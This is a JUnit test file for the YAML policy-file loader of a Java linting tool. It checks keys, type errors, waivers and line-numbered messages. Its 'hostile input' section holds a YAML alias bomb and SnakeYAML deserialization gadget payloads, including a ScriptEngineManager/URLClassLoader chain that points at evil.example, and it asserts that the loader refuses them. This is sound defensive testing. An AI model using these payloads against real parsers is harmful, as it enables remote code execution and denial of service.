package fr.cctlint.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import fr.cctlint.i18n.Messages;
import fr.cctlint.model.Evidence;
import fr.cctlint.model.Problem;
import fr.cctlint.policy.Rule;
import fr.cctlint.policy.Severity;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Reading .cct-lint.yaml: every key, every error with its line, hostile input. */
class ProjectConfigLoaderTest {
    private static final String FILE = ".cct-lint.yaml";
    private final ProjectConfigLoader loader = new ProjectConfigLoader();

    static ConfigResult load(String yaml) {
        return new ProjectConfigLoader().load(FILE, yaml.getBytes(StandardCharsets.UTF_8));
    }

    static String english(Problem p) {
        return Messages.english().render(p.message());
    }

    private static Problem only(ConfigResult result) {
        assertEquals(1, result.problems().size(), () -> result.problems().stream()
                .map(p -> p.line() + ": " + english(p)).toList().toString());
        return result.problems().get(0);
    }

    static byte[] resource(String name) throws IOException {
        try (InputStream in = ProjectConfigLoaderTest.class.getResourceAsStream("/config/" + name)) {
            assertNotNull(in, name);
            return in.readAllBytes();
        }
    }

    // ---- a realistic file, every key

    @Test
    void realisticFileReadsEveryKey() throws IOException {
        ConfigResult result = loader.load("app/.cct-lint.yaml", resource("full.cct-lint.yaml"));
        assertTrue(result.valid(), () -> result.problems().stream().map(ProjectConfigLoaderTest::english).toList()
                .toString());
        ProjectConfig config = result.config();
        assertEquals("app/.cct-lint.yaml", config.file());
        assertEquals(Boolean.TRUE, config.newProject());
        assertEquals(Boolean.FALSE, config.cloudNative());
        assertEquals(List.of("ministry-extra.yaml", "../shared/referential-overrides.yaml"), config.referentials());
        assertEquals(List.of("legacy/**", "**/src/test/resources/**"), config.exclude());
        assertFalse(config.includeDev());
        assertTrue(config.includeTest());
        assertEquals(Map.of(Rule.CCT004, Severity.NOTE, Rule.CCT003, Severity.ERROR, Rule.CCT005, Severity.NONE),
                config.severity());

        assertEquals(2, config.embedded().size());
        EmbeddedDeclaration minio = config.embedded().get(0);
        assertEquals("pkg:docker/minio/minio", minio.component());
        assertTrue(minio.complete());
        assertEquals("Équipe titres", minio.owner());
        assertEquals(new Evidence("app/.cct-lint.yaml", 20, "component: pkg:docker/minio/minio"), minio.origin());
        EmbeddedDeclaration h2 = config.embedded().get(1);
        assertEquals(List.of("securityAssessed", "justification"), h2.missing());
        assertEquals(29, h2.origin().line());

        assertEquals(2, config.waivers().size());
        Waiver mysql = config.waivers().get(0);
        assertEquals(new Waiver("CCT002", "mysql", "Migration to PostgreSQL planned for 2027",
                "Comité d'architecture", LocalDate.of(2026, 6, 1), LocalDate.of(2027, 6, 1),
                new Evidence("app/.cct-lint.yaml", 38, "rule: CCT002, component: mysql")), mysql);
        Waiver rabbit = config.waivers().get(1);
        assertEquals("pkg:docker/rabbitmq", rabbit.component());
        assertEquals(LocalDate.of(2025, 3, 1), rabbit.expires(), "quoted dates are dates too");
        assertTrue(rabbit.expiredOn(LocalDate.of(2025, 3, 2)));
        assertFalse(rabbit.expiredOn(LocalDate.of(2025, 3, 1)), "the expiry day is included");
    }

    @Test
    void absentKeysStayUnset() {
        ConfigResult result = load("embedded:\n  - component: redis\n");
        assertTrue(result.valid());
        ProjectConfig config = result.config();
        assertNull(config.newProject());
        assertNull(config.cloudNative());
        assertEquals(List.of(), config.referentials());
        assertFalse(config.includeDev());
        EmbeddedDeclaration redis = config.embedded().get(0);
        assertNull(redis.securityAssessed());
        assertEquals(7, redis.missing().size());
    }

    @Test
    void keysWithoutValueAreNotSet() {
        ConfigResult result = load("newProject:\nexclude:\nscopes:\n  dev: ~\nembedded:\nwaivers: null\n");
        assertTrue(result.valid(), () -> result.problems().stream().map(ProjectConfigLoaderTest::english).toList()
                .toString());
        assertNull(result.config().newProject());
        assertEquals(List.of(), result.config().exclude());
        assertFalse(result.config().includeDev());
    }

    @Test
    void yamlBooleanSpellingsAreBooleans() {
        ConfigResult result = load("newProject: yes\ncloudNative: Off\nscopes: {dev: TRUE, test: on}\n");
        assertTrue(result.valid());
        assertEquals(Boolean.TRUE, result.config().newProject());
        assertEquals(Boolean.FALSE, result.config().cloudNative());
        assertTrue(result.config().includeDev());
        assertTrue(result.config().includeTest());
    }

    @Test
    void aWaiverMayNameFilesInsteadOfComponentsButNotNothing() {
        ConfigResult files = load("waivers:\n  - rule: CN047\n    path: \"**/application-dev.yml\"\n"
                + "    reason: local profile\n");
        assertEquals(List.of(), files.problems());
        assertEquals("**/application-dev.yml", files.config().waivers().get(0).path());
        assertEquals(null, files.config().waivers().get(0).component());
        ConfigResult nothing = load("waivers:\n  - rule: CN047\n    reason: forgot what\n");
        assertEquals(1, nothing.problems().size());
        assertEquals(2, nothing.problems().get(0).line());
        assertTrue(nothing.config().waivers().isEmpty());
        ConfigResult badGlob = load("waivers:\n  - rule: CN047\n    path: \"src/[oops\"\n");
        assertEquals(3, badGlob.problems().get(0).line());
        assertTrue(badGlob.config().waivers().isEmpty());
    }

    @Test
    void waiverWithoutExpiryNeverExpires() {
        ConfigResult result = load("waivers:\n  - rule: CCT003\n    component: keycloak\n");
        assertTrue(result.valid());
        Waiver w = result.config().waivers().get(0);
        assertNull(w.expires());
        assertNull(w.approved());
        assertFalse(w.expiredOn(LocalDate.of(2100, 1, 1)));
    }

    // ---- empty file: a valid file that sets nothing

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"''", "'# only comments\n# newProject: true\n'", "'---\n'", "'~\n'",
        "'\n\n   \n'"})
    void emptyFileIsValidAndSetsNothing(String yaml) {
        ConfigResult result = load(yaml);
        assertTrue(result.valid());
        assertEquals(FILE, result.config().file());
        assertNull(result.config().newProject());
        assertTrue(result.config().embedded().isEmpty());
        assertTrue(result.config().waivers().isEmpty());
    }

    // ---- each error kind, with its line

    @Test
    void unknownTopLevelKeyNamesExpectedKeys() {
        ConfigResult result = load("newProject: true\nwaiver:\n  - rule: CCT002\n");
        Problem p = only(result);
        assertEquals(2, p.line());
        assertEquals(FILE, p.file());
        assertFalse(p.fatal());
        assertEquals("unknown key \"waiver\" at the top of the file; expected one of: newProject, cloudNative, "
                + "referentials, exclude, scopes, severity, embedded, waivers", english(p));
        assertEquals(Boolean.TRUE, result.config().newProject(), "what could be read is kept");
    }

    @Test
    void unknownKeyWithAnotherSpellingSuggestsTheRightOne() {
        Problem p = only(load("new_project: true\n"));
        assertTrue(english(p).contains("did you mean \"newProject\"?"), english(p));
    }

    @Test
    void unknownKeysAtEveryLevel() {
        ConfigResult result = load(String.join("\n",
                "scopes:",
                "  dev: true",
                "  prod: true",
                "embedded:",
                "  - component: minio",
                "    securityAssesed: true",
                "waivers:",
                "  - rule: CCT002",
                "    component: mysql",
                "    until: 2027-01-01",
                ""));
        assertEquals(List.of(3, 6, 10), result.problems().stream().map(Problem::line).toList());
        assertTrue(english(result.problems().get(0)).contains("in scopes; expected one of: dev, test"));
        assertTrue(english(result.problems().get(1)).startsWith("unknown key \"securityAssesed\" in embedded[]"));
        assertTrue(english(result.problems().get(2)).contains(
                "expected one of: rule, component, path, reason, approvedBy, approved, expires"));
        assertTrue(result.config().includeDev());
        assertEquals(1, result.config().embedded().size());
        assertEquals(1, result.config().waivers().size());
    }

    @Test
    void duplicateKeyIsAnErrorAndTheFirstWins() {
        ConfigResult result = load("newProject: true\ncloudNative: true\nnewProject: false\n");
        Problem p = only(result);
        assertEquals(3, p.line());
        assertEquals("key \"newProject\" is written twice at the top of the file (first at line 1); the second is "
                + "ignored", english(p));
        assertEquals(Boolean.TRUE, result.config().newProject());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "newProject: \"true\"|1|newProject: expected true or false, found text \"true\"",
        "newProject: 1|1|newProject: expected true or false, found a number \"1\"",
        "cloudNative: [true]|1|cloudNative: expected true or false, found a list",
        "scopes: true|1|scopes: expected a mapping (key: value), found true or false \"true\"",
        "scopes:\\n  test: maybe|2|scopes.test: expected true or false, found text \"maybe\"",
        "exclude: legacy/**|1|exclude: expected a list, found text \"legacy/**\"",
        "referentials:\\n  - a.yaml\\n  - {file: b.yaml}|3|referentials[]: expected text, found a mapping (key: value)",
        "referentials:\\n  - 12|2|referentials[]: expected text, found a number \"12\"",
        "severity: [CCT004]|1|severity: expected a mapping (key: value), found a list",
        "embedded:\\n  component: minio|2|embedded: expected a list, found a mapping (key: value)",
        "embedded:\\n  - minio|2|embedded[]: expected a mapping (key: value), found text \"minio\"",
        "embedded:\\n  - component: minio\\n    owner: [a, b]|3|embedded[].owner: expected text, found a list",
        "embedded:\\n  - component: minio\\n    securityAssessed: 'yes'|3|embedded[].securityAssessed: expected true or false, found text \"yes\"",
        "waivers:\\n  - rule: CCT002\\n    component: mysql\\n    approved: 20260601|4|waivers[].approved: expected a date (yyyy-MM-dd), found a number \"20260601\"",
    })
    void wrongTypes(String yaml, int line, String message) {
        Problem p = only(load(yaml.replace("\\n", "\n")));
        assertEquals(line, p.line());
        assertEquals(message, english(p));
        assertFalse(p.fatal());
    }

    @Test
    void wrongTypeOfAGuaranteeLeavesItUnsetSoTheDeclarationIsIncomplete() {
        ConfigResult result = load("embedded:\n  - component: minio\n    installationIntegrated: 'true'\n");
        assertEquals(1, result.problems().size());
        assertEquals(List.of("installationIntegrated", "updatesIntegrated", "noOperatorSkills",
                "noSpecificMaintenance", "securityAssessed", "owner", "justification"),
                result.config().embedded().get(0).missing());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "2027-02-30|2027-02-30", "'2027-6-1'|2027-6-1", "2027-06-01T10:00:00Z|2027-06-01T10:00:00Z",
        "next year|next year", "'01/06/2027'|01/06/2027"})
    void badExpiryDateDropsTheWaiver(String date, String shown) {
        ConfigResult result = load("waivers:\n  - rule: CCT002\n    component: mysql\n    expires: " + date + "\n");
        Problem p = only(result);
        assertEquals(4, p.line());
        assertEquals("waivers[].expires: \"" + shown + "\" is not a date written yyyy-MM-dd (for example 2027-06-01)",
                english(p));
        assertTrue(result.config().waivers().isEmpty(), "a waiver whose end is unknown must not apply forever");
    }

    @Test
    void badApprovalDateKeepsTheWaiver() {
        ConfigResult result = load("waivers:\n  - rule: CCT002\n    component: mysql\n    approved: 2026-13-01\n"
                + "    expires: 2027-06-01\n");
        assertEquals(4, only(result).line());
        assertNull(result.config().waivers().get(0).approved());
        assertEquals(LocalDate.of(2027, 6, 1), result.config().waivers().get(0).expires());
    }

    @Test
    void unknownRuleInSeverityAndInWaivers() {
        ConfigResult result = load(String.join("\n",
                "severity:",
                "  CCT004: note",
                "  CCT010: error",
                "  cct003: error",
                "waivers:",
                "  - rule: CCT011",
                "    component: mysql",
                ""));
        assertEquals(List.of(3, 4, 6), result.problems().stream().map(Problem::line).toList());
        assertEquals("severity: \"CCT010\" is not a rule id; expected one of: CCT001, CCT002, CCT003, CCT004, "
                + "CCT005, CCT006, CCT007, CCT008, CCT009, CN014, CN025, CN029, CN032, CN046, CN047, CN056", english(result.problems().get(0)));
        assertTrue(english(result.problems().get(2)).startsWith("waivers[].rule: \"CCT011\" is not a rule id"));
        assertEquals(Map.of(Rule.CCT004, Severity.NOTE), result.config().severity());
        assertTrue(result.config().waivers().isEmpty());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {"fatal|fatal", "Error|Error", "off|off", "'2'|2", "~|~"})
    void unknownSeverity(String value, String shown) {
        ConfigResult result = load("severity:\n  CCT002: error\n  CCT004: " + value + "\n");
        Problem p = only(result);
        assertEquals(3, p.line());
        assertEquals("severity.CCT004: \"" + shown + "\" is not a severity; expected one of: error, warning, note, "
                + "none", english(p));
        assertEquals(Map.of(Rule.CCT002, Severity.ERROR), result.config().severity());
    }

    @Test
    void missingComponentOrRuleDropsTheItem() {
        ConfigResult result = load(String.join("\n",
                "embedded:",
                "  - owner: team",
                "    justification: text",
                "  - component: \"  \"",
                "waivers:",
                "  - component: mysql",
                "  - rule: CCT002",
                "    component:",
                ""));
        assertEquals(List.of(2, 4, 6, 7), result.problems().stream().map(Problem::line).toList());
        assertEquals("embedded[] lacks the required key \"component\"; the item is ignored",
                english(result.problems().get(0)));
        assertEquals("waivers[] lacks the required key \"rule\"; the item is ignored",
                english(result.problems().get(2)));
        assertTrue(result.config().embedded().isEmpty());
        assertTrue(result.config().waivers().isEmpty());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {"pkg:maven|pkg:maven", "'pkg:/maven//x'|pkg:/maven//x",
        "'pkg:Ma ven/x'|pkg:Ma ven/x", "pkg:npm/%zz|pkg:npm/%zz", "'---'|---"})
    void badComponentSelectorDropsTheItem(String component, String shown) {
        ConfigResult result = load("embedded:\n  - component: " + component + "\n    owner: team\n");
        Problem p = only(result);
        assertEquals(2, p.line());
        assertTrue(english(p).startsWith("embedded[].component: \"" + shown + "\""), english(p));
        assertTrue(result.config().embedded().isEmpty());
    }

    @Test
    void badExcludeGlobIsReportedAtItsLine() {
        ConfigResult result = load("exclude:\n  - \"legacy/**\"\n  - \"src/[main\"\n");
        assertEquals(3, only(result).line());
        assertEquals(List.of("legacy/**"), result.config().exclude());
    }

    @Test
    void topLevelMustBeAMapping() {
        Problem p = only(load("- newProject: true\n"));
        assertTrue(p.fatal());
        assertEquals("the file must be a mapping of keys (newProject, embedded, waivers...), not a list",
                english(p));
    }

    @Test
    void yamlSyntaxErrorIsFatalWithItsLine() {
        ConfigResult result = load("newProject: true\nembedded:\n  - component: \"minio\n");
        Problem p = only(result);
        assertTrue(p.fatal());
        assertTrue(p.line() >= 3, "line " + p.line());
        assertTrue(english(p).startsWith("invalid YAML"), english(p));
        assertEquals(ProjectConfigLoaderTest.FILE, result.config().file());
        assertNull(result.config().newProject());
    }

    @Test
    void severalDocumentsAreRefused() {
        Problem p = only(load("newProject: true\n---\nnewProject: false\n"));
        assertTrue(p.fatal());
        assertEquals(3, p.line());
    }

    // ---- hostile input

    @Test
    void aliasBombIsRefusedWithoutExpanding() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i <= 12; i++) {
            String prev = "*a" + (i - 1);
            bomb.append("a").append(i).append(": &a").append(i).append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(9, prev))).append("]\n");
        }
        bomb.append("exclude: *a12\n");
        ConfigResult result = load(bomb.toString());
        assertFalse(result.valid());
        assertTrue(result.config().exclude().isEmpty());
        assertTrue(result.problems().stream().anyMatch(p -> english(p).contains("aliases")),
                () -> result.problems().stream().map(ProjectConfigLoaderTest::english).toList().toString());
    }

    @Test
    void anchorsAndAliasesAreRefusedEvenWhenSmall() {
        ConfigResult result = load("exclude: &ex\n  - legacy/**\nreferentials: *ex\n");
        assertFalse(result.valid());
        Problem p = result.problems().get(result.problems().size() - 1);
        assertEquals("YAML anchors and aliases (&ex) are not allowed in a project policy file", english(p));
        assertTrue(result.config().exclude().isEmpty());
        assertTrue(result.config().referentials().isEmpty());
    }

    @Test
    void tooLargeFileIsRefusedBeforeParsing() {
        byte[] big = new byte[2 * 1024 * 1024];
        Arrays.fill(big, (byte) '#');
        Problem p = only(loader.load(FILE, big));
        assertTrue(p.fatal());
        assertEquals("the file has 2097152 bytes, more than the 1048576 bytes a project policy file may have",
                english(p));
    }

    @Test
    void notUtf8IsRefusedWithTheLineOfTheBadByte() {
        byte[] latin1 = "newProject: true\nembedded:\n  - component: minio\n    owner: \u00c9quipe\n"
                .getBytes(StandardCharsets.ISO_8859_1);
        Problem p = only(loader.load(FILE, latin1));
        assertTrue(p.fatal());
        assertEquals(4, p.line());
        assertEquals("the file is not UTF-8 text", english(p));
    }

    @Test
    void byteOrderMarkIsAccepted() {
        byte[] text = "\uFEFFnewProject: true\n".getBytes(StandardCharsets.UTF_8);
        ConfigResult result = loader.load(FILE, text);
        assertTrue(result.valid());
        assertEquals(Boolean.TRUE, result.config().newProject());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "embedded:\\n  - component: !!java.net.URL \"http://evil.example/\"|2|tag:yaml.org,2002:java.net.URL",
        "newProject: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]|1|tag:yaml.org,2002:javax.script.ScriptEngineManager",
        "exclude: !custom [a]|1|!custom",
        "!!java.util.HashMap\\nnewProject: true|1|tag:yaml.org,2002:java.util.HashMap",
        "scopes: !!set {dev, test}|1|tag:yaml.org,2002:set",
    })
    void explicitTagsAreRefusedAndNothingIsConstructed(String yaml, int line, String tag) {
        // nothing could be constructed anyway: the loader only composes nodes
        ConfigResult result = load(yaml.replace("\\n", "\n"));
        assertFalse(result.valid());
        Problem p = result.problems().get(0);
        assertEquals(line, p.line());
        // SnakeYAML refuses global tags (!!java...) while parsing; the loader refuses any other explicit tag
        assertTrue(english(p).contains("Global tag is not allowed: " + tag)
                || english(p).contains("the YAML tag " + tag + " is not allowed"), english(p));
    }

    @Test
    void loadsFromDisk(@TempDir Path dir) throws IOException {
        Path file = dir.resolve(ProjectConfig.FILE_NAME);
        Files.write(file, resource("full.cct-lint.yaml"));
        ConfigResult result = loader.load(file, ".cct-lint.yaml");
        assertTrue(result.valid());
        assertEquals(2, result.config().waivers().size());
        ConfigResult missing = loader.load(dir.resolve("absent.yaml"), "absent.yaml");
        assertTrue(only(missing).fatal());
        assertTrue(english(only(missing)).startsWith("cannot read the project policy file"));
    }
}
